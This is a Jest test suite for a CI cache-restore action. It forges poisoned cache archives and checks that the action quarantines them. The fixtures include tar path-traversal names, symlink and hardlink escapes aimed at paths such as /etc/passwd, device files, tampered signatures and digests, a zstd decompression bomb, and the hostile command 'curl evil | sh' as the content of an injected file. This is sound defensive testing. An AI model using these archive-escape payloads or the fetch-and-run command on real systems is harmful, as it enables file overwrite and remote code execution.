/**
 * Poisoned entries offered to a release job, restored through the bundled action
 * (dist/cache-sentinel) exactly as the runner runs it. Each must be quarantined, fail the step,
 * and write nothing into the workspace or outside the private staging area.
 */
import { beforeAll, describe, expect, it } from '@jest/globals';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { zstdCompressSync } from 'node:zlib';
import { REPO_ROOT, runAction, type ActionRun } from '../helpers/run-action.js';
import { expectValidResult } from '../helpers/result-schema.js';
import { pathsId } from '../../src/gates/cache-sentinel/index.js';
import { blake3Hex } from '../../src/hashing/blake3.js';
import {
  forge,
  listTree,
  newKey,
  PUSH_MAIN,
  runInProcess,
  sandbox,
  tarOf,
  type ForgeOptions,
  type Sandbox
} from './fixtures.js';

const trusted = newKey();
const mallory = newKey();

async function restoreInRelease(
  sb: Sandbox,
  extra: Record<string, string> = {}
): Promise<ActionRun> {
  return runAction('cache-sentinel', {
    workspace: sb.workspace,
    runnerTemp: sb.runnerTemp,
    env: { ...PUSH_MAIN, HOME: sb.root },
    inputs: {
      operation: 'restore',
      path: 'deps',
      key: 'deps-v1',
      signing: 'key',
      'verify-key': trusted.publicPem,
      'default-branch': 'main',
      backend: `dir:${sb.store}`,
      ...extra
    }
  });
}

function events(sb: Sandbox): Record<string, unknown>[] {
  const f = join(sb.runnerTemp, 'ci-intel', 'cache-events.ndjson');
  return existsSync(f)
    ? readFileSync(f, 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l))
    : [];
}

/** The common assertions: quarantined with `reason`, step failed, nothing escaped. */
function expectQuarantined(sb: Sandbox, run: ActionRun, reason: string): void {
  expect(run.exitCode).toBe(1);
  expect(run.outputs['cache-hit']).toBe('false');
  expect(run.outputs.quarantined).toBe('true');
  expect(run.result?.verdict).toBe('fail');
  expectValidResult(run.result);
  const evidence = run.result!.evidence as { quarantine: { reason: string; dir: string } };
  expect(evidence.quarantine.reason).toBe(reason);
  // Nothing reached the destination or anywhere outside staging.
  expect(existsSync(join(sb.workspace, 'deps'))).toBe(false);
  expect(listTree(sb.outside)).toEqual([]);
  expect(existsSync(join(sb.root, 'evil'))).toBe(false);
  expect(existsSync(join(sb.workspace, 'evil'))).toBe(false);
  // The staged entry sits in quarantine, the staging area is empty.
  const qroot = join(sb.runnerTemp, 'ci-intel', 'quarantine');
  expect(readdirSync(qroot)).toHaveLength(1);
  expect(evidence.quarantine.dir.startsWith(qroot)).toBe(true);
  expect(readdirSync(evidence.quarantine.dir)).toContain('manifest.json');
  expect(readdirSync(join(sb.runnerTemp, 'ci-intel', 'cache-sentinel'))).toEqual([]);
  const ev = events(sb);
  const q = ev.find((e) => e.event === 'cache_quarantine');
  expect(q).toMatchObject({ event: 'cache_quarantine', tier: 'trusted', reason });
  expect(typeof q!.ts).toBe('string');
  expect(Array.isArray(q!.files)).toBe(true);
  expect(ev.find((e) => e.event === 'cache_events')).toMatchObject({
    hit: false,
    key: 'deps-v1',
    verified: false
  });
  expect(typeof ev.find((e) => e.event === 'cache_events')!.ms).toBe('number');
}

async function poisonCase(
  o: Omit<ForgeOptions, 'signWith'> & { signWith?: string | null },
  reason: string
): Promise<void> {
  const sb = sandbox();
  rmSync(join(sb.workspace, 'deps'), { recursive: true });
  await forge(sb, {
    format,
    ...o,
    signWith: o.signWith === null ? undefined : (o.signWith ?? trusted.privatePem)
  });
  const run = await restoreInRelease(sb);
  expectQuarantined(sb, run, reason);
}

/** The manifest format the forged entries use (each poisoned suite runs for v2, then v1). */
let format: 'v1' | 'v2' = 'v2';

const good = [
  { name: '0/a.txt', content: 'alpha\n' },
  { name: '0/sub', type: 'directory' as const },
  { name: '0/sub/b.bin', content: 'bbbb' }
];

beforeAll(() => {
  if (!existsSync(join(REPO_ROOT, 'dist', 'cache-sentinel', 'index.js'))) {
    throw new Error('build the bundle first: node scripts/build.mjs cache-sentinel cli');
  }
});

describe('cache-sentinel restore: the honest path (dist)', () => {
  it('restores a verified entry saved by a trusted push, byte for byte, with events', async () => {
    const sb = sandbox();
    const saved = await runInProcess(sb, PUSH_MAIN, {
      operation: 'save',
      path: 'deps',
      key: 'deps-v1',
      'signing-key': trusted.privatePem
    });
    expect(saved.verdict).toBe('pass');
    expect(saved.outputs['verified-files']).toBe('2');
    const original = readFileSync(join(sb.workspace, 'deps', 'sub', 'b.bin'));
    rmSync(join(sb.workspace, 'deps'), { recursive: true });
    const run = await restoreInRelease(sb);
    expect(run.exitCode).toBe(0);
    expectValidResult(run.result);
    expect(run.outputs).toMatchObject({
      verdict: 'pass',
      'cache-hit': 'true',
      'matched-key': 'deps-v1',
      'verified-files': '2',
      quarantined: 'false'
    });
    expect(readFileSync(join(sb.workspace, 'deps', 'sub', 'b.bin')).equals(original)).toBe(true);
    expect(readFileSync(join(sb.workspace, 'deps', 'link'), 'utf8')).toBe('alpha\n');
    expect(events(sb)).toEqual([
      expect.objectContaining({
        event: 'cache_events',
        hit: true,
        key: 'deps-v1',
        verified: true,
        tier: 'trusted'
      })
    ]);
  });

  it('reports a miss as pass with cache-hit=false', async () => {
    const sb = sandbox();
    const run = await restoreInRelease(sb, { key: 'nothing-here' });
    expect(run.exitCode).toBe(0);
    expect(run.outputs).toMatchObject({
      'cache-hit': 'false',
      quarantined: 'false',
      'matched-key': ''
    });
    expect(events(sb)[0]).toMatchObject({ event: 'cache_events', hit: false });
  });
});

describe.each(['v2', 'v1'] as const)('manifest %s', (f) => {
  beforeAll(() => {
    format = f;
  });

  describe('cache-sentinel restore: poisoned entries are quarantined (dist)', () => {
    it('tar-slip with ..', () =>
      poisonCase(
        {
          // The signer vouched for this archive (its digest matches); the member name is the attack.
          members: [{ name: '0/../../evil', content: 'pwned' }, ...good],
          entries: []
        },
        'path-traversal'
      ));

    it('tar-slip with an absolute path', () =>
      poisonCase(
        { members: [{ name: '/tmp/cs-evil-absolute', content: 'pwned' }], entries: [] },
        'absolute-path'
      ));

    it('symlink escaping the destination, then a write through it', () =>
      poisonCase(
        {
          members: [
            { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
            { name: '0/esc/evil', content: 'pwned' }
          ]
        },
        'symlink-escape'
      ));

    it('symlink inside the root used to redirect a later write', () =>
      poisonCase(
        {
          members: [
            { name: '0/sub', type: 'directory' },
            { name: '0/in', type: 'symlink', linkname: 'sub' },
            { name: '0/in/evil', content: 'pwned' }
          ]
        },
        'write-through-symlink'
      ));

    it('hardlink escaping the destination', () =>
      poisonCase(
        { members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }], entries: [] },
        'hardlink'
      ));

    it('device file', () =>
      poisonCase(
        { members: [{ name: '0/dev', type: 'character-device' }], entries: [] },
        'special-file'
      ));

    it('swapped file: archive rewritten, signed manifest keeps the original digests', async () => {
      const sb = sandbox();
      rmSync(join(sb.workspace, 'deps'), { recursive: true });
      // The attacker re-signs nothing: same manifest, archive re-packed with other bytes of the same size.
      await forge(sb, {
        format,
        members: good,
        signWith: trusted.privatePem,
        afterSign: (p) => {
          const s = p.toString('latin1').replace('alpha\n', 'ALPHA\n');
          return Buffer.from(s, 'latin1');
        }
      });
      expectQuarantined(sb, await restoreInRelease(sb), 'archive-digest-mismatch');
    });

    it('swapped file inside an archive whose digest the (compromised-but-trusted) signer vouched for', () =>
      poisonCase(
        {
          members: good,
          manifestEdit: (m) => {
            m.entries[0].blake3 = '0'.repeat(64);
          }
        },
        'digest-mismatch'
      ));

    it('extra file not in the manifest', () =>
      poisonCase(
        {
          members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
          manifestEdit: (m) => {
            m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
          }
        },
        'unlisted-file'
      ));

    it('truncated archive', () =>
      poisonCase({ members: good, afterSign: (p) => p.subarray(0, 700) }, 'archive-size-mismatch'));

    it('re-signed by an untrusted identity', () =>
      poisonCase({ members: good, signWith: mallory.privatePem }, 'untrusted-signer'));

    it('unsigned entry', () => poisonCase({ members: good, signWith: null }, 'missing-signature'));

    it('manifest edited after signing', async () => {
      const sb = sandbox();
      rmSync(join(sb.workspace, 'deps'), { recursive: true });
      const key = await forge(sb, {
        format,
        members: good,
        signWith: trusted.privatePem
      });
      const dir = join(sb.store, createHash('sha256').update(key).digest('hex'));
      const m = readFileSync(join(dir, 'manifest.json'), 'utf8').replace(
        '"runId":"666"',
        '"runId":"667"'
      );
      writeFileSync(join(dir, 'manifest.json'), m);
      expectQuarantined(sb, await restoreInRelease(sb), 'bad-signature');
    });

    it('PR-tier entry stored under the trusted key is refused by a release job', () =>
      poisonCase(
        {
          members: good,
          tier: 'pr-7',
          event: 'pull_request',
          ref: 'refs/pull/7/merge',
          storeAs: `cs1-trusted-${pathsId(['deps'])}-deps-v1`
        },
        'tier-mismatch'
      ));

    it('entry claiming the trusted tier but written by a pull request', () =>
      poisonCase(
        { members: good, tier: 'trusted', event: 'pull_request', ref: 'refs/pull/7/merge' },
        'tier-violation'
      ));

    it('manifest valid (signed, consistent) but the archive swapped for another one', async () => {
      const sb = sandbox();
      rmSync(join(sb.workspace, 'deps'), { recursive: true });
      const other = join(sb.root, 'other.tar');
      await tarOf([{ name: '0/a.txt', content: 'evil!\n' }], other);
      await forge(sb, {
        format,
        members: good,
        signWith: trusted.privatePem,
        afterSign: () => readFileSync(other)
      });
      expectQuarantined(sb, await restoreInRelease(sb), 'archive-size-mismatch');
    });

    it('audit mode reports the quarantine but does not fail the step', async () => {
      const sb = sandbox();
      rmSync(join(sb.workspace, 'deps'), { recursive: true });
      await forge(sb, {
        format,
        members: good,
        signWith: mallory.privatePem
      });
      const run = await restoreInRelease(sb, { mode: 'audit' });
      expect(run.exitCode).toBe(0);
      expect(run.outputs.quarantined).toBe('true');
      expect(run.result?.verdict).toBe('fail');
      expect(existsSync(join(sb.workspace, 'deps'))).toBe(false);
    });
  });

  describe('cache-sentinel restore: poisoned zstd entries, decompressed on the worker thread (dist)', () => {
    it('tar-slip with ..', () =>
      poisonCase(
        { members: [{ name: '0/../../evil', content: 'pwned' }, ...good], entries: [], zstd: true },
        'path-traversal'
      ));

    it('symlink escaping the destination, then a write through it', () =>
      poisonCase(
        {
          members: [
            { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
            { name: '0/esc/evil', content: 'pwned' }
          ],
          zstd: true
        },
        'symlink-escape'
      ));

    it('hardlink and device members', async () => {
      await poisonCase(
        {
          members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }],
          entries: [],
          zstd: true
        },
        'hardlink'
      );
      await poisonCase(
        { members: [{ name: '0/dev', type: 'character-device' }], entries: [], zstd: true },
        'special-file'
      );
    });

    it('a file whose bytes are not the signed digest, and a file not in the manifest', async () => {
      await poisonCase(
        {
          members: good,
          zstd: true,
          manifestEdit: (m) => {
            m.entries[0].blake3 = '0'.repeat(64);
          }
        },
        'digest-mismatch'
      );
      await poisonCase(
        {
          members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
          zstd: true,
          manifestEdit: (m) => {
            m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
          }
        },
        'unlisted-file'
      );
    });

    it('a garbled zstd stream the signer vouched for is a corrupt archive', () =>
      poisonCase(
        {
          members: good,
          zstd: true,
          zstdBytes: (c) => Buffer.concat([c.subarray(0, 6), Buffer.alloc(c.length - 6, 0xff)])
        },
        'corrupt-archive'
      ));

    it('a zstd stream cut in half (signed as cut) is a corrupt archive', () =>
      poisonCase(
        {
          members: [...good, { name: '0/big.bin', content: randomBytes(300_000) }],
          zstd: true,
          zstdBytes: (c) => c.subarray(0, Math.floor(c.length / 2))
        },
        'corrupt-archive'
      ));

    // 40 MiB of zeros: a tar bound past the in-thread limit, so the worker thread decompresses.
    const large = { name: '0/zeros.bin', content: Buffer.alloc(40 * 1024 * 1024) };

    it('a second zstd frame after the signed tar is a corrupt archive (worker thread)', () =>
      poisonCase(
        {
          members: [...good, large],
          zstd: true,
          zstdBytes: (c) => Buffer.concat([c, zstdCompressSync(Buffer.from('0/evil'))])
        },
        'corrupt-archive'
      ));

    it('a zstd frame one byte short is a corrupt archive (worker thread)', () =>
      poisonCase(
        { members: [...good, large], zstd: true, zstdBytes: (c) => c.subarray(0, c.length - 1) },
        'corrupt-archive'
      ));

    it('a compressed bomb: a member far larger than its manifest entry stops at its header', async () => {
      const t0 = performance.now();
      await poisonCase(
        {
          members: [...good, { name: '0/bomb', content: Buffer.alloc(64 * 1024 * 1024) }],
          zstd: true,
          manifestEdit: (m) => {
            const bomb = m.entries.find((e) => e.path === 'bomb')!;
            bomb.size = 4;
            bomb.blake3 = blake3Hex(Buffer.alloc(4));
          }
        },
        'size-mismatch'
      );
      expect(performance.now() - t0).toBeLessThan(30_000);
    });

    it('compressed bytes swapped after signing: the stored digest is reported', () =>
      poisonCase(
        {
          members: good,
          zstd: true,
          afterSign: (p) => Buffer.concat([p.subarray(0, 6), Buffer.alloc(p.length - 6, 0xff)])
        },
        'archive-digest-mismatch'
      ));
  });
});
